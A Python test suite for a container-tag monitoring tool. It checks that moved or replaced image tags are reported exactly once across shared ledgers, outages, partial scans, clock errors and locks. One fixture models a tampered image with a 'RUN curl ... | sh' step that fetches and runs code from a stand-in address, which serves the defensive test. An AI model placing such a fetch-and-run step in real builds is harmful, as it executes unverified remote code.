"""Told exactly once: whoever asks in between, whoever shares the ledger, whatever fails.

Nights are runs of the library, each with a time of its own; locks and exit codes are the command's.
"""

from __future__ import annotations

import asyncio
import signal
import sqlite3
from collections.abc import AsyncIterator, Iterator
from contextlib import closing
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from tagwatch.api import check, resolve, scan_async
from tagwatch.errors import ClockError, NothingToReadError
from tagwatch.ledger.lock import alone
from tagwatch.ledger.write import Ledger
from tagwatch.service.demo.images import Built, Shelf, Step, build
from tagwatch.service.demo.show import serving
from tagwatch.walk.look_up import Asking
from tagwatch.walk.scan import ScanResult
from tagwatch.walk.site import Site, open_site, project_of
from tests.walk.command import Workplace

HOST = "registry.shop.example"
FIRST = datetime(2026, 8, 20, 2, 0, tzinfo=UTC)
DAY = timedelta(days=1)
NOWHERE = "http://127.0.0.1:1"
CONFIG = """version: 1
sources: [Dockerfile]
reports: {formats: []}
registries:
  registry.shop.example: {endpoint: 'ADDRESS', credential: anonymous, patience_seconds: 0}
policy: {tags: {immutable: ['^\\d+\\.\\d+\\.\\d+$']}, rules: {cooldown: {severity: 'off'}}}
"""


def image(name: str, version: str, *steps: Step) -> Built:
    """An image of one version, with more steps where somebody tampered with it."""
    root = Step(created_by="ADD rootfs /", content=name)
    copied = Step(created_by=f"COPY {name} /", content=f"{name} {version}")
    return build(None, [root, copied, *steps], day="2026-08-16")


def replaced(version: str = "1.0.0", word: str = "x") -> Built:
    """The same version with something else inside."""
    more = Step(created_by=f"RUN curl -s http://198.51.100.7/{word} | sh", content=word)
    return image("app", version, more)


@dataclass(slots=True, kw_only=True)
class Desk:
    """Projects of one user, whose ledger is that of the home, and their registry."""

    home: Path
    address: str
    shelf: Shelf = field(default_factory=Shelf)

    def write(self, name: str, dockerfile: str, more: str = "") -> Path:
        """Write a project's files; its folder."""
        folder = self.home / name
        folder.mkdir(exist_ok=True)
        text = CONFIG.replace("ADDRESS", self.address) + more
        (folder / "tagwatch.yaml").write_text(text, encoding="utf-8")
        (folder / "Dockerfile").write_text(dockerfile, encoding="utf-8")
        return folder

    def site(self, name: str, night: float, *, is_down: bool = False) -> Site:
        """The project's site on that night; its registry may be down."""
        folder = self.home / name
        site = open_site(
            folder / "tagwatch.yaml", environment={"HOME": str(self.home)}, at=FIRST + night * DAY
        )
        if is_down:
            down = {HOST: {**site.settings.registries[HOST], "endpoint": NOWHERE}}
            site = replace(site, settings=replace(site.settings, registries=down))
        return replace(site, spoken_for=frozenset({HOST}))

    async def scan(self, name: str, night: float, **options: Any) -> ScanResult:
        """Scan on that night."""
        is_down = options.pop("is_down", False)
        return await scan_async(self.site(name, night, is_down=is_down), **options)

    @property
    def ledger(self) -> Path:
        """The one ledger of all projects."""
        return self.site(next(self.home.glob("*/tagwatch.yaml")).parent.name, 0).database


@pytest.fixture
async def desk(tmp_path: Path) -> AsyncIterator[Desk]:
    shelf = Shelf()
    shelf.push("shop/app", ("1.0.0",), [image("app", "1.0.0")], "2026-08-16")
    shelf.push("shop/app", ("1",), [image("app", "1.0.0")], "2026-08-16")
    shelf.push("shop/web", ("2", "2.0.0"), [image("web", "2.0.0")], "2026-08-16")
    async with serving(shelf) as address:
        yield Desk(home=tmp_path, address=address, shelf=shelf)


def moved(found: ScanResult) -> list[tuple[str, str]]:
    """The tags that a scan says have moved, and why."""
    return [
        (f"{one.repository.path}:{one.change.tag}", one.change.verdict.value)
        for one in found.news.changes
    ]


def rules(findings: tuple[Any, ...]) -> list[str]:
    return sorted(f"{one.rule} {one.reference or one.location.path}" for one in findings)


# Who asks in between


def do_nothing(_: Site) -> None:
    pass


def do_resolve(site: Site) -> None:
    resolve(f"{HOST}/shop/app:1.0.0", site, asking=Asking(refresh=True))


def do_check(site: Site) -> None:
    check("Dockerfile", site)


@pytest.mark.parametrize("meanwhile", [do_nothing, do_resolve, do_check])
async def test_whoever_asks_in_between_takes_no_news_away(desk: Desk, meanwhile: Any) -> None:
    desk.write("shop", f"FROM {HOST}/shop/app:1.0.0\n")
    assert moved(await desk.scan("shop", 0)) == []
    for night, word in ((1, "x"), (2, "y")):
        desk.shelf.push("shop/app", ("1.0.0",), [replaced(word=word)], "2026-08-17")
        site = replace(desk.site("shop", night + 0.1), folder=desk.home / "shop")
        await asyncio.to_thread(meanwhile, site)
        found = await desk.scan("shop", night + 0.5)
        assert moved(found) == [("shop/app:1.0.0", "replaced")], night
        told = {one.rule: one.severity.value for one in found.result.findings}
        assert told["tag-replaced"] == "error"
    assert moved(await desk.scan("shop", 3)) == []


async def test_a_move_is_explained_once_when_both_images_are_read(desk: Desk) -> None:
    """The older image was seen by its digest alone, and its registry still has it."""
    folder = desk.write("shop", "FROM scratch\n")
    await desk.scan("shop", 0)
    site = replace(desk.site("shop", 0.1), folder=folder)
    await asyncio.to_thread(do_resolve, site)
    desk.write("shop", f"FROM {HOST}/shop/app:1.0.0\n")
    desk.shelf.push("shop/app", ("1.0.0",), [replaced()], "2026-08-17")
    found = await desk.scan("shop", 1)
    assert moved(found) == [("shop/app:1.0.0", "replaced")]
    again = await desk.scan("shop", 2)
    assert (moved(again), again.news.explained) == ([], ())


async def test_what_could_not_be_read_is_told_and_explained_once_it_was(desk: Desk) -> None:
    """The budget of pulls is spent on one night: the verdict of that night is not stored."""
    desk.write("shop", f"FROM {HOST}/shop/app:1.0.0\n")
    await desk.scan("shop", 0)
    desk.shelf.push("shop/app", ("1.0.0",), [replaced()], "2026-08-17")
    poor = desk.site("shop", 1)
    less = {HOST: {**poor.settings.registries[HOST], "budget": 0}}
    found = await scan_async(replace(poor, settings=replace(poor.settings, registries=less)))
    assert moved(found) == [("shop/app:1.0.0", "unknown")]
    with Ledger.open(desk.ledger) as ledger:
        assert len(ledger.unexplained_moves()) == 1
    rich = await desk.scan("shop", 2)
    assert moved(rich) == []
    assert [one.change.verdict.value for one in rich.news.explained] == ["replaced"]
    assert (await desk.scan("shop", 3)).news.explained == ()


async def test_an_image_that_is_gone_leaves_its_move_unknown_for_good(desk: Desk) -> None:
    folder = desk.write("shop", "FROM scratch\n")
    await desk.scan("shop", 0)
    await asyncio.to_thread(do_resolve, replace(desk.site("shop", 0.1), folder=folder))
    desk.write("shop", f"FROM {HOST}/shop/app:1.0.0\n")
    old = desk.shelf.tags["shop/app"]["1.0.0"]
    desk.shelf.push("shop/app", ("1.0.0", "1"), [replaced()], "2026-08-17")
    del desk.shelf.manifests[old]
    assert moved(await desk.scan("shop", 1)) == [("shop/app:1.0.0", "unknown")]
    with Ledger.open(desk.ledger) as ledger:
        assert ledger.unexplained_moves() == ()
    again = await desk.scan("shop", 2)
    assert (moved(again), again.news.explained) == ([], ())


# Who shares the ledger


async def test_two_projects_of_one_ledger_never_see_each_others_news(desk: Desk) -> None:
    desk.write("one", f"FROM {HOST}/shop/app:1\n")
    desk.write("two", f"FROM {HOST}/shop/web:2\n")
    seen: list[tuple[int, str, list[str], list[str], list[tuple[str, str]]]] = []
    for night in range(10):
        if night == 4:
            new = image("app", "1.0.1")
            desk.shelf.push("shop/app", ("1", "1.0.1"), [new], "2026-08-24")
        if night == 6:
            new = image("web", "2.0.1")
            desk.shelf.push("shop/web", ("2", "2.0.1"), [new], "2026-08-26")
        for place, name in enumerate(("one", "two")):
            found = await desk.scan(name, night + place / 10)
            assert found.news.is_first is (night == 0)
            since = found.news.since
            if night and (since.new or since.fixed or found.news.changes):
                seen.append((night, name, rules(since.new), rules(since.fixed), moved(found)))
            repositories = {one.reference.repository.path for one in found.result.targets}  # type: ignore[union-attr]  # it has one
            assert repositories == {"shop/app" if name == "one" else "shop/web"}
    assert [(night, name, moves) for night, name, _, _, moves in seen] == [
        (4, "one", [("shop/app:1", "upgraded")]),
        (6, "two", [("shop/web:2", "upgraded")]),
    ]
    with Ledger.open(desk.ledger) as ledger:
        assert len(ledger.runs(99, project=project_of(desk.site("one", 0)))) == 10
        for name in ("one", "two"):
            last = ledger.last_result(project=project_of(desk.site(name, 0)))
            assert last is not None
            assert ledger.facts(project_of(desk.site(name, 0))) == ()


async def test_the_news_of_a_shared_repository_are_told_to_each(desk: Desk) -> None:
    for name in ("one", "two"):
        desk.write(name, f"FROM {HOST}/shop/app:1.0.0\n", f"project: {name}\n")
        await desk.scan(name, 0)
    desk.shelf.push("shop/app", ("1.0.0",), [replaced()], "2026-08-17")
    for name in ("one", "two"):
        assert moved(await desk.scan(name, 1)) == [("shop/app:1.0.0", "replaced")]
    for name in ("one", "two"):
        assert moved(await desk.scan(name, 2)) == []


# What could not be read


async def test_what_was_fixed_in_an_outage_is_told_when_it_is_over(desk: Desk) -> None:
    desk.write("shop", f"FROM {HOST}/shop/app:latest\n")
    desk.shelf.push("shop/app", ("latest",), [image("app", "1.0.0")], "2026-08-16")
    first = await desk.scan("shop", 0)
    assert f"tag-latest {HOST}/shop/app:latest" in rules(first.result.findings)
    desk.write("shop", f"FROM {HOST}/shop/app:1.0.0\n")
    for night in (1, 2):
        down = await desk.scan("shop", night, is_down=True)
        assert down.news.since.fixed == (), "nobody could read it"
    over = await desk.scan("shop", 3)
    assert f"tag-latest {HOST}/shop/app:latest" in rules(over.news.since.fixed)
    assert (await desk.scan("shop", 4)).news.since.fixed == ()


async def test_a_finding_that_stands_through_an_outage_is_not_told_again(desk: Desk) -> None:
    desk.write("shop", f"FROM {HOST}/shop/app:1\n")
    await desk.scan("shop", 0)
    for night, is_down in ((1, True), (2, True), (3, False)):
        found = await desk.scan("shop", night, is_down=is_down)
        told = [one for one in found.news.since.new if one.rule != "check-incomplete"]
        assert told == [], night
        gone = [one for one in found.news.since.fixed if one.rule != "check-incomplete"]
        assert gone == [], night


# A scan of some repositories


WATCH = f"watch: [{{image: {HOST}/shop/*, tags: ['2.*']}}]\n"
BOTH = f"FROM {HOST}/shop/app:1.0.0 AS app\nFROM {HOST}/shop/web:2\n"


async def test_a_scan_of_one_repository_changes_nothing_outside(desk: Desk) -> None:
    desk.write("shop", BOTH, WATCH)
    first = await desk.scan("shop", 0)
    desk.shelf.push("shop/app", ("1.0.0",), [replaced()], "2026-08-17")
    desk.shelf.push("shop/web", ("2", "2.0.1"), [image("web", "2.0.1")], "2026-08-17")
    desk.write("shop", BOTH + "FROM redis:latest\n", WATCH)
    part = await desk.scan("shop", 1, repositories=[f"{HOST}/shop/app"])
    assert list(part.result.requests) == [HOST]
    assert moved(part) == [("shop/app:1.0.0", "replaced")]
    assert part.result.coverage == first.result.coverage
    outside = [one for one in rules(first.result.findings) if "shop/web" in one]
    assert outside
    assert [one for one in rules(part.result.findings) if "shop/web" in one] == outside
    assert all("shop/app" in one for one in rules(part.news.since.new))
    assert part.news.since.fixed == ()
    assert {target.text for target in part.result.targets} == {
        target.text for target in first.result.targets
    }
    whole = await desk.scan("shop", 2)
    assert ("shop/app:1.0.0", "replaced") not in moved(whole), "told once"
    assert ("shop/web:2", "upgraded") in moved(whole)
    assert "tag-latest redis:latest" in rules(whole.news.since.new)


async def test_what_an_earlier_command_saw_outside_waits_for_the_whole_scan(desk: Desk) -> None:
    folder = desk.write("shop", BOTH)
    await desk.scan("shop", 0)
    desk.shelf.push("shop/app", ("1.0.0",), [replaced()], "2026-08-17")
    await asyncio.to_thread(do_check, replace(desk.site("shop", 1.1), folder=folder))
    part = await desk.scan("shop", 1.2, repositories=[f"{HOST}/shop/web"])
    assert moved(part) == []
    assert moved(await desk.scan("shop", 2)) == [("shop/app:1.0.0", "replaced")]


async def test_a_repository_that_nothing_names_is_not_asked(desk: Desk) -> None:
    desk.write("shop", BOTH)
    with pytest.raises(NothingToReadError, match="shop/other"):
        await desk.scan("shop", 0, repositories=[f"{HOST}/shop/other"])


# The clock


async def test_a_ledger_ahead_of_the_clock_is_refused_and_mended(desk: Desk) -> None:
    desk.write("shop", f"FROM {HOST}/shop/app:1.0.0\n")
    await desk.scan("shop", 0)
    await desk.scan("shop", 400)
    desk.shelf.push("shop/app", ("1.0.0",), [replaced()], "2026-08-17")
    with pytest.raises(ClockError, match="ahead of the clock"):
        await desk.scan("shop", 1)
    with Ledger.open(desk.ledger) as ledger:
        told = ledger.rewind(FIRST + DAY)
        assert any(line.startswith("runs: 1, the latest of 2027-09-24") for line in told), told
        assert ledger.rewind(FIRST + DAY) == ()
    assert moved(await desk.scan("shop", 1.1)) == [("shop/app:1.0.0", "replaced")]
    assert moved(await desk.scan("shop", 2)) == []


# The lock, and exit codes


@pytest.fixture
def place(desk: Desk) -> Iterator[Workplace]:
    folder = desk.write("shop", f"FROM {HOST}/shop/app:1.0.0\n", "database: tagwatch.db\n")
    yield Workplace(folder, {"HOME": str(desk.home)})


async def test_a_second_scan_waits_and_names_the_first(place: Workplace) -> None:
    assert (await place.run("scan")).code in (0, 1)
    ledger = place.folder / "tagwatch.db"
    project = str((place.folder / "tagwatch.yaml").resolve())
    with closing(sqlite3.connect(ledger)) as connection:
        connection.execute("UPDATE project SET holder = 'process 7 on desk, since noon'")
        connection.commit()
    async with alone(ledger, project, wait_seconds=0, holder=str):
        late = await place.run("scan", "--wait-lock", "0.5")
        assert late.code == 5, late.err
        assert "process 7 on desk, since noon" in late.err
        forgets = await place.run("ledger", "forget", "--runs", "1d", "--wait-lock", "0")
        assert forgets.code == 5, forgets.err
        assert (await place.run("check", "Dockerfile")).code in (0, 1), "only scans wait"
        waiting = await place.start("scan", "--wait-lock", "60")
        assert waiting.stderr is not None
        told = b"waiting for another scan of this project: process 7 on desk"
        await asyncio.wait_for(waiting.stderr.readuntil(told), 30)
        assert waiting.returncode is None
    _, err = await waiting.communicate()
    wrong = await place.run("scan", "--wait-lock", "nan")
    assert (wrong.code, "--wait-lock" in wrong.err) == (2, True), wrong.err
    assert waiting.returncode in (0, 1), err


async def test_a_killed_scan_leaves_the_lock_free(desk: Desk, place: Workplace) -> None:
    process = await place.start("scan")
    await asyncio.sleep(1)
    if process.returncode is None:
        process.send_signal(signal.SIGKILL)
    await process.communicate()
    assert (await place.run("scan", "--wait-lock", "0")).code in (0, 1)


async def test_the_environment_failing_is_exit_code_5(place: Workplace) -> None:
    text = (place.folder / "tagwatch.yaml").read_text(encoding="utf-8")
    reports = text.replace("reports: {formats: []}", "reports: {directory: Dockerfile/x}")
    place.write("tagwatch.yaml", reports)
    unwritable = await place.run("scan")
    assert (unwritable.code, "report cannot be written" in unwritable.err) == (5, True)
    place.write("tagwatch.yaml", text)
    with closing(sqlite3.connect(place.folder / "tagwatch.db")) as connection:
        connection.execute("UPDATE run SET at = at + 86400000000")
        connection.commit()
    ahead = await place.run("scan")
    assert (ahead.code, "ledger rewind" in ahead.err) == (5, True), ahead.err
    mended = await place.run("ledger", "rewind")
    assert (mended.code, "runs: 1" in mended.out) == (0, True), mended.out
    assert (await place.run("scan")).code in (0, 1)
    assert (await place.run("ledger", "rewind")).out.startswith("nothing is later than")
    (place.folder / "tagwatch.db").write_bytes(b"no ledger at all, " * 1000)
    damaged = await place.run("scan")
    assert (damaged.code, "damaged" in damaged.err) == (5, True), damaged.err
    typo = await place.run("scan", "--repository", "Not A Name")
    assert typo.code == 2, typo.err
    unknown = await place.run("scan", "--repository", f"{HOST}/shop/other")
    assert unknown.code == 3, unknown.err
